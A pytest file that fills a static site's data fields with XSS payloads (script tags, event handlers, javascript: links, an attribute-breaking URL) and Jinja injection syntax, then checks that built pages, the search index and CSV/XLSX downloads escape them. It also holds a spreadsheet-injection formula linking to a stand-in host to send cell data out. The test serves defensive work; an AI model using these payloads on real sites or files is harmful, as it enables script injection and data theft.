"""Text from data never runs in the browser and is never evaluated as a template.

Every text field of one region and one practice (found by walking their schemas, so a field
added later is covered by itself) gets script tags, event handlers, `javascript:` links and
Jinja syntax; URL fields get an attribute-breaking URL. The site is built strictly from that
data and every built page is parsed.
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from bs4 import BeautifulSoup

from macros.core.schema import load_schemas, resolve_ref
from macros.core.yamlio import dump_yaml
from macros.synth import write_synthetic

from conftest import kks

PAYLOAD = ('{mark} <script>alert("{mark}")</script> <img src="x" onerror="alert(1)"> '
           '<a href="javascript:alert(2)" onclick="alert(3)">tautan</a> [klik](javascript:alert(4)) '
           '<iframe src="javascript:alert(5)"></iframe> <svg onload="alert(6)"></svg> '
           '{{{{ 7*7 }}}} {{% if true %}}JINJA-JALAN{{% endif %}} {{# komentar #}} </title><b>tebal</b> '
           '`<img src=x onerror=alert(9)>` &lt;img src=x onerror=alert(10)&gt; "\' onmouseover=alert(11) x=\'')
FORMULA = '=HYPERLINK("https://contoh.invalid/curi?"&A1,"klik")'
FORMULA_FIELDS = ("keberlanjutan",)
URL_PAYLOAD = 'https://contoh.invalid/{mark}"onmouseover="alert(7)"><script>alert(8)</script>'


def _fill(schema: dict[str, Any], base: str, name: str, marks: dict[str, str], current: Any) -> Any:
    """`current` with every free-text string (no enum, pattern or format) replaced by the payload."""
    schema, base = resolve_ref(schema, base)
    kind = schema.get("type")
    if kind == "string" and "enum" not in schema and "pattern" not in schema:
        if schema.get("format") not in (None, "url"):
            return current  # dates must stay valid
        mark = f"MARK{len(marks):02d}X"
        marks[mark] = name
        return (URL_PAYLOAD if schema.get("format") == "url" else PAYLOAD).format(mark=mark)
    if kind == "object":
        out = dict(current or {})
        for key, sub in schema.get("properties", {}).items():
            if key in out or resolve_ref(sub, base)[0].get("type") in ("string", "array", "object"):
                filled = _fill(sub, base, f"{name}.{key}", marks, out.get(key))
                if filled is not None:
                    out[key] = filled
        if "publik" in schema.get("properties", {}):
            out["publik"] = True  # contacts with a phone must be public to be valid
        if "diakses" in schema.get("properties", {}):
            out.setdefault("diakses", "2026-11-28")
        return out
    if kind == "array" and "items" in schema:
        items, item_base = resolve_ref(schema["items"], base)
        if items.get("type") in ("string", "object") and "pattern" not in items:
            first = (current or [None])[0]
            if items.get("type") == "object" and "tahun" in items.get("required", []):
                first = {"tahun": 2025, "predikat": "padapa", "keyakinan": "sedang", **(first or {})}
            if items.get("type") == "object" and "status" in items.get("required", []):
                first = {"keyakinan": "sedang", **(first or {})}
            return [*(current or [])[1:], _fill(items, item_base, f"{name}[]", marks, first)]
    return current


def _poison(path: Path, kind: str, marks: dict[str, str]) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data = _fill(load_schemas()[kind], kind, kind, marks, data)
    path.write_text(dump_yaml(data), encoding="utf-8")


@pytest.fixture(scope="module")
def poisoned_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    root = tmp_path_factory.mktemp("escaping")
    data = root / "data"
    write_synthetic(data, practices=3, regions=3)
    marks: dict[str, str] = {}
    _poison(data / "daerah" / "sintetis-00001.yaml", "daerah", marks)
    practice = data / "praktik" / "praktik-sintetis-00001.yaml"
    text = practice.read_text(encoding="utf-8")
    practice.write_text(re.sub(r"^daerah: .*$", "daerah: sintetis-00001", text, flags=re.M), encoding="utf-8")
    _poison(practice, "praktik", marks)
    # Spreadsheet formulas at the start of a cell (CSV/Excel injection) for the downloads.
    record = yaml.safe_load(practice.read_text(encoding="utf-8"))
    record.update(dict.fromkeys(FORMULA_FIELDS, FORMULA))
    practice.write_text(dump_yaml(record), encoding="utf-8")
    for document in record.get("dokumen") or []:  # a linked file must exist, whatever its name
        if document.get("berkas"):
            target = root / "docs" / "dokumen" / document["berkas"]
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text("dokumen uji", encoding="utf-8")
    validate = kks("validate", "--data", str(data))
    assert validate.returncode == 0, validate.stderr
    out = root / "site"
    result = kks("build", "--data", str(data), "--out", str(out))
    assert result.returncode == 0, result.stderr[-3000:]
    return out, marks


def _pages(site: Path) -> list[tuple[Path, BeautifulSoup]]:
    return [(p, BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser")) for p in sorted(site.rglob("*.html"))]


@pytest.mark.slow
def test_every_text_field_was_poisoned(poisoned_site: tuple[Path, dict[str, str]]) -> None:
    _, marks = poisoned_site
    fields = set(marks.values())
    for expected in ("daerah.nama", "daerah.ringkasan", "daerah.sumber[].judul", "praktik.judul",
                     "praktik.langkah", "praktik.kontak[].unit", "praktik.dokumen[].berkas", "praktik.sumber[].url"):
        assert expected in fields, sorted(fields)


@pytest.mark.slow
def test_built_pages_run_nothing_from_data(poisoned_site: tuple[Path, dict[str, str]]) -> None:
    site, _ = poisoned_site
    problems = []
    for path, soup in _pages(site):
        rel = path.relative_to(site)
        for script in soup.find_all("script"):
            src = script.get("src")
            body = script.string or ""
            if src and (re.match(r"^[a-z]+:", src) or "MARK" in src):
                problems.append(f"{rel}: script dari luar {src}")
            if "alert(" in body or "MARK" in body:
                problems.append(f"{rel}: script dari data: {body[:80]}")
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                if attr.lower().startswith("on"):
                    problems.append(f"{rel}: <{tag.name} {attr}=...>")
                if re.match(r"^\s*(javascript|vbscript|data):", text, re.I) and attr in ("href", "src", "action",
                                                                                      "formaction", "xlink:href"):
                    problems.append(f"{rel}: <{tag.name} {attr}={text[:40]}>")
            if tag.name in ("iframe", "frame", "object", "embed", "base") or tag.get("src") == "x":
                problems.append(f"{rel}: <{tag.name}> dari data")  # the site itself has none of these
    assert problems == [], "\n".join(problems[:40])


@pytest.mark.slow
def test_data_text_is_shown_verbatim_never_evaluated(poisoned_site: tuple[Path, dict[str, str]]) -> None:
    """After each marker, up to the next one, the page text holds the Jinja syntax literally (or a
    shortened summary stops before it); `{{ 7*7 }}` never turns into 49."""
    site, marks = poisoned_site
    complete: set[str] = set()
    problems = []
    for path, soup in _pages(site):
        rel = path.relative_to(site)
        text = soup.get_text(" ")
        for found in re.finditer("MARK[0-9]{2}X", text):
            mark = found.group()
            window = re.split("MARK[0-9]{2}X", text[found.end():found.end() + 600], maxsplit=1)[0]
            if "{{ 7*7 }}" in window and "{% if true %}JINJA-JALAN{% endif %}" in window:
                complete.add(mark)
            if "JINJA-JALAN" in window and "{% if true %}" not in window:
                problems.append(f"{rel}: {marks[mark]}: sintaks Jinja dijalankan: {window[:120]!r}")
            if "7*7" not in window and re.search(r"\b49\b", window):
                problems.append(f"{rel}: {marks[mark]}: {{{{ 7*7 }}}} dihitung menjadi 49: {window[:120]!r}")
    assert problems == [], "\n".join(problems[:40])
    # The main fields must reach a page in full, or this test would pass by showing nothing.
    shown = {marks[m] for m in complete}
    for field in ("daerah.nama", "daerah.ringkasan", "praktik.judul", "praktik.ringkasan", "praktik.masalah",
                  "praktik.langkah", "praktik.hasil"):
        assert field in shown, f"{field} tidak tampil utuh di halaman mana pun; tampil: {sorted(shown)}"


@pytest.mark.slow
def test_search_index_holds_no_markup_from_data(poisoned_site: tuple[Path, dict[str, str]]) -> None:
    """Material's search shows titles and text with innerHTML: data text must arrive escaped."""
    site, _ = poisoned_site
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    entries = [d for d in index["docs"] if "MARK" in d["title"] + d["text"]]
    assert entries, "the poisoned records are not in the search index"
    bad = [f"{d['location']}: {d['title'][:60]!r} / {d['text'][:60]!r}" for d in entries
           if re.search(r"<\s*/?\s*(script|img|iframe|svg|a|b|title)\b", d["title"] + d["text"], re.I)]
    assert bad == [], "\n".join(bad)


@pytest.mark.slow
def test_downloads_hold_no_spreadsheet_formulas_from_data(poisoned_site: tuple[Path, dict[str, str]]) -> None:
    """A cell starting with = + - @ runs as a formula when the CSV is opened in Excel."""
    site, _ = poisoned_site
    with (site / "unduh" / "praktik.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    row = next(r for r in rows if r["id"] == "praktik-sintetis-00001")
    assert FORMULA in " ".join(row.values()), "the formula text must still be in the download"
    formulas = [f"praktik.csv {key}: {value[:40]!r}" for r in rows for key, value in r.items()
                if value and value[0] in "=+-@\t\r"]
    book = openpyxl.load_workbook(site / "unduh" / "praktik.xlsx")
    formulas += [f"praktik.xlsx {cell.coordinate}" for sheet in book.worksheets for line in sheet.iter_rows()
                 for cell in line if cell.data_type == "f"]
    assert formulas == [], "\n".join(formulas)
